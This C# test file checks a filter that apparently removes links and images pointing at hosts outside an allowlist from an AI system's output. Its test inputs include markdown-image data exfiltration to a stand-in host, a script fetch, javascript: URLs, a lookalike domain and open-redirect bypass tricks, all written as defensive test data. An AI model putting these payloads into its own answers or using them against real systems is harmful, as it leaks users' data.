using FsCheck;
using FsCheck.Fluent;
using Microsoft.Extensions.DependencyInjection;
using Xunit;

namespace AiOs;

public sealed class ExfiltrationStageTests
{
    private static readonly ExfiltrationStage Stage = new(new ExfiltrationOptions { Hosts = ["docs.example.org", "*.shop.example"] });

    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=secret)")]
    [InlineData("[text](https://evil.example/)")]
    [InlineData("[text](<https://evil.example/a b>)")]
    [InlineData("[text](https://evil.example \"title\")")]
    [InlineData("<https://evil.example/x>")]
    [InlineData("<mail@evil.example>")]
    [InlineData("see https://evil.example/x and more")]
    [InlineData("see www.evil.example now")]
    [InlineData("[a][b]\n\n[b]: https://evil.example/")]
    [InlineData("![a][b]\n\n[b]: <https://evil.example/> 'x'")]
    [InlineData("[b]\n\n[b]:\nhttps://evil.example/")]
    [InlineData("<img src=\"https://evil.example/\">")]
    [InlineData("<a href='https://evil.example'>x</a>")]
    [InlineData("<div style=\"background:url(//evil.example)\">")]
    [InlineData("<script>fetch('https://evil.example')</script>")]
    [InlineData("<b onmouseover=x>")]
    [InlineData("![x](data:image/png;base64,AAAA)")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](java&#115;cript:alert(1))")]
    [InlineData("![x](//evil.example/x)")]
    [InlineData("![x](/relative)")]
    [InlineData("![x](\\\\evil.example\\x)")]
    [InlineData("[x](http://docs.example.org/)")]
    [InlineData("[x](https://docs.example.org@evil.example/)")]
    [InlineData("[x](https://docs.example.org.evil.example/)")]
    [InlineData("[x](https://evil.example\\@docs.example.org/)")]
    [InlineData("[x](https://shop.example/)")]
    [InlineData("[x](https://evilshop.example/)")]
    [InlineData("[x](https://docs.example.org/out?url=https://evil.example/)")]
    [InlineData("[x](https://docs.example.org/out?url=https%3A%2F%2Fevil.example)")]
    [InlineData("[x](https://docs.example.org/out?url=https%253A%252F%252Fevil.example)")]
    [InlineData("[x](https://docs.example.org/out?next=//evil.example)")]
    [InlineData("[x](https://docs.example.org/out?next=evil.example/a)")]
    [InlineData("[x](https://docs.example.org/r#https://evil.example)")]
    [InlineData("[outer ![in](https://evil.example/i.png)](https://docs.example.org/)")]
    [InlineData("> quoted\n> ![x](https://evil.example/)")]
    [InlineData("- item\n  1. ![x](https://evil.example/)")]
    [InlineData("| a |\n|---|\n| ![x](https://evil.example/) |")]
    [InlineData("# ![x](https://evil.example/)")]
    [InlineData("**![x](https://evil.example/)**")]
    [InlineData("![x](https://е\u0443il.example/)")]
    public async Task WhatLeadsElsewhere_IsTakenOut(string answer)
    {
        var verdict = await EvaluateAsync(Stage, "Before.\n\n" + answer + "\n\nAfter.");
        Assert.NotEqual(SecurityOutcome.Allow, verdict.Outcome);
        if (verdict.Outcome == SecurityOutcome.Rewrite)
        {
            Assert.Contains("Before.", verdict.Replacement, StringComparison.Ordinal);
            Assert.Equal(SecurityOutcome.Allow, (await EvaluateAsync(Stage, verdict.Replacement!)).Outcome);
        }
    }

    [Theory]
    [InlineData("Plain *text* with `code`, 3 < 4 && 5 > 2, a@b, and 12:30.")]
    [InlineData("[docs](https://docs.example.org/page?id=1#part) and <https://a.shop.example/>")]
    [InlineData("![x](https://docs.example.org/i.png)\n\n[b]: https://b.shop.example/")]
    [InlineData("```\n<img src=\"https://evil.example/\">\n```")]
    [InlineData("`![x](https://evil.example/)`")]
    [InlineData("[part](#part) and H<sub>2</sub>O<br>")]
    public async Task WhatStays_IsNotTouched(string answer) => Assert.Equal(SecurityOutcome.Allow, (await EvaluateAsync(Stage, answer)).Outcome);

    // Whatever is put together: the result passes, so nothing that was taken out has made something new.
    [Fact]
    public void WhatPasses_PassesAgain() => Prop.ForAll(
        Gen.Elements(
            "![a](https://evil.example/)", "[", "](", ")", "<", ">", "https://evil.example", "![", "](https://",
            "evil.example", "\n", "\n\n", "[b]: ", "[b]", "<img src=", "`", "> ", "- ", "docs.example.org",
            "www.", "data:", "&#104;", "\\", " x ", "[link removed]").ArrayOf().Select(string.Concat).ToArbitrary(),
        text =>
        {
            var verdict = EvaluateAsync(Stage, text).AsTask().GetAwaiter().GetResult();
            return verdict.Outcome != SecurityOutcome.Rewrite
                || EvaluateAsync(Stage, verdict.Replacement!).AsTask().GetAwaiter().GetResult().Outcome == SecurityOutcome.Allow;
        }).Check(Seeded.Config.WithMaxTest(1500));

    [Fact]
    public async Task Options_AreChecked_AndBlocking()
    {
        var blocking = new ExfiltrationStage(new ExfiltrationOptions { Outcome = SecurityOutcome.Block });
        Assert.Equal(SecurityOutcome.Block, (await EvaluateAsync(blocking, "[x](https://docs.example.org/)")).Outcome);
        Assert.Throws<ArgumentException>(() => new ExfiltrationStage(new ExfiltrationOptions { Hosts = ["https://x.example/"] }));
        Assert.Throws<ArgumentException>(() => new ExfiltrationStage(new ExfiltrationOptions { Outcome = SecurityOutcome.Allow }));
        string longQuery = "[x](https://docs.example.org/?d=" + new string('a', 300) + ")";
        Assert.Equal(SecurityOutcome.Rewrite, (await EvaluateAsync(Stage, longQuery)).Outcome);
        using var provider = new ServiceCollection().AddExfiltrationStage().AddCSharpInspector().BuildServiceProvider();
        Assert.IsType<ExfiltrationStage>(provider.GetRequiredService<ISecurityStage>());
        Assert.IsType<CSharpInspector>(provider.GetRequiredService<ICodeInspector>());
    }

    private static ValueTask<SecurityVerdict> EvaluateAsync(ExfiltrationStage stage, string text) =>
        stage.EvaluateAsync(new SecurityContent(SecurityDirection.Output, new ProcessId(1), text, SecurityLabel.User));
}
